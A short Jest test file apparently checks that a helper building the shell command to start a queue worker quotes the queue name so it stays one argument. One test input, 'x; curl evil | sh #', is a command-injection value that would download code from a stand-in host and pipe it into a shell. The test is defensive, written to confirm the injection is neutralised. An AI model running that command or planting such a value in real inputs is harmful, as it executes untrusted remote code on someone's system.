import { describe, expect, it } from '@jest/globals';
import { workerCommand } from './worker-command';

describe('the command that starts a worker', () => {
  it('takes the name of the queue as one word', () => {
    expect(workerCommand('ada-1')).toBe('WORKER_API_KEY=ak_… WORKER_QUEUE=ada-1 npm run worker');
    expect(workerCommand('x; curl evil | sh #')).toBe(
      "WORKER_API_KEY=ak_… WORKER_QUEUE='x; curl evil | sh #' npm run worker",
    );
  });
});
